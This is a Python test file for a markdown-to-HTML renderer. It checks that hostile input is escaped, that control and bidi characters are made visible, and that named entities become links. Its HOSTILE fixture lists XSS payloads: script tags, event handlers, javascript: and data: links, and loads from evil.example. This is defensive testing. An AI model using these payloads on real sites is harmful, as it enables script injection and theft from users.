"""The HTML of a record: what it links to, and that a hostile text puts nothing into the page."""

from html.parser import HTMLParser
from time import process_time
from urllib.parse import quote

import pytest

from oracle.app.pages import markdown
from oracle.app.pages.markdown import to_html

HARMLESS = {"href", "rel", "class", "start"}

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a heading": "# a <script src=//evil.example/x.js></script>",
    "style": "<style>@import url(https://evil.example/x.css);</style>",
    "link to a style": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "svg": '<svg onload="alert(1)"><animate onbegin=alert(1)></svg>',
    "math": "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "handler": '<p onclick="alert(1)" style="position:fixed">a</p>',
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "form": '<form action="https://evil.example"><input name=a autofocus onfocus=alert(1)>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "image": "![a](https://evil.example/a.png)",
    "image with a handler": '![a" onerror="alert(1)](x "b\\" onerror=\\"c")',
    "image of data": "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    "image by reference": "![a][b]\n\n[b]: https://evil.example/b.png",
    "link to a script": "[a](javascript:alert(1))",
    "link to a script in capitals": "[a](JaVaScRiPt:alert(1))",
    "link to a script with a reference": "[a](java&#x73;cript:alert(1))",
    "link to a script with a tab": "[a](java&Tab;script:alert(1))",
    "link to a script by reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "link to data": "[a](data:text/html,<script>alert(1)</script>)",
    "link to a file": "[a](file:///etc/passwd)",
    "link without a scheme": "[a](//evil.example/a)",
    "link with backslashes": "[a](\\\\evil.example\\a)",
    "autolink": "<javascript:alert(1)>",
    "wikilink": "[[javascript:alert(1)]] [[//evil.example/|a]] [[a\"onclick='b]]",
    "closes the quotation": '[a](https://good.example/"onmouseover="alert(1))',
    "code": '```"><script>alert(1)</script>\n</code></pre><script>\n```',
    "table": "| <b> | [a](javascript:a) |\n|:-:|---|\n| ![x](http://evil.example/t.png) | <td onclick=a> |",
    "half a comment": "<!-- <script>alert(1)</script> -->\n--><script>alert(2)</script>",
    "processing": "<?php echo 1 ?><![CDATA[<script>]]><!DOCTYPE a>",
    "half of a character": "a\ud800[b\udc00](https://good.example/\ud800)",
    "null": "a\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
}


class Page(HTMLParser):
    """Keep what a browser would see."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.addresses, self.text = set(), set(), [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value for name, value in attrs if name == "href"]

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    def handle_data(self, data):
        self.text += data


def own(name):
    return f"/to/{quote(name, safe='')}"


def no_link(_):
    return ""


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("link", [own, no_link])
def test_hostile_text_stays_text(text, link):
    seen = Page(to_html(text, link=link))
    assert seen.tags <= markdown._TAGS
    assert seen.attributes <= HARMLESS
    assert all(address.startswith(("/to/", "https://good.example/")) for address in seen.addresses)


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200f", "\x1b", "\x9b", "\x07", "\u2028", "\x00"])
@pytest.mark.parametrize("shape", ["a {} b", "# {}", "`{}`", "```\n{}\n```", "[{}](https://good.example)", "[[{}]]"])
@pytest.mark.parametrize("form", ["{}", "&#{};"])
def test_characters_that_steer_are_spelled_out(char, shape, form):
    written = shape.format(char if form == "{}" else f"&#{ord(char)};")
    assert char not in to_html(written, link=own)


def test_bidi_is_visible():
    assert "\\u202e" in to_html("a\u202eb", link=no_link)
    assert "\\u202e" in to_html("a&#x202e;b", link=no_link)


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("[[retry-webhooks]]", ["retry-webhooks"]),
        ("[[projects/shop/decision/a|the decision]]", ["projects/shop/decision/a"]),
        ("It is SHOP-12, not SHOP-1.", ["entity:taskid:SHOP-12", "entity:taskid:SHOP-1"]),
        ("in `SHOP-1`", []),
        ("**SHOP-1** in src/app.py", ["entity:taskid:SHOP-1", "entity:file:src/app.py"]),
        ("see projects/shop/decision/a", ["projects/shop/decision/a"]),
        ("[b](../b.md)", ["../b"]),
        ("[b](src/app.py)", ["entity:file:src/app.py"]),
        ("[b](#part)", []),
        ("| a |\n|---|\n| [[c]] |", ["c"]),
        ("- > [[c]]", ["c"]),
    ],
)
def test_what_is_named_becomes_a_link(text, names):
    assert Page(to_html(text, link=own)).addresses == [own(name) for name in names]
    assert not Page(to_html(text, link=no_link)).addresses


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[a](https://good.example/b)", "a (https://good.example/b)"),
        ("<https://good.example/b>", "https://good.example/b"),
        ("[a](mailto:b@good.example)", "a (mailto:b@good.example)"),
        ("<b@good.example>", "b@good.example"),
        ("![a](http://evil.example/b.png)", "a (http://evil.example/b.png)"),
        ("[a](ftp://evil.example/b)", "a (ftp://evil.example/b)"),
        ("[https://good.example](https://evil.example)", "https://good.example (https://evil.example)"),
    ],
)
def test_addresses_are_shown(text, shown):
    assert Page(to_html(text, link=no_link)).text.strip() == shown


def test_links_tell_nothing_to_where_they_lead():
    assert 'rel="noopener noreferrer"' in to_html("[a](https://good.example)", link=no_link)


def test_headings_begin_below_the_title_of_the_page():
    html = to_html("# a\n\n## b\n\n###### c", link=no_link)
    assert html.split("\n")[:3] == ["<h2>a</h2>", "<h3>b</h3>", "<h6>c</h6>"]


@pytest.mark.parametrize("unit", ["![", "[[a|", "***a", "* a\n "])
def test_no_shape_takes_long(unit):
    began = process_time()
    to_html((unit * markdown.LONGEST)[: markdown.LONGEST], link=own)
    assert process_time() - began < 10


def test_a_very_long_text_is_printed_as_it_is():
    html = to_html("<b>" * markdown.LONGEST, link=own)
    assert Page(html).tags == {"pre"}
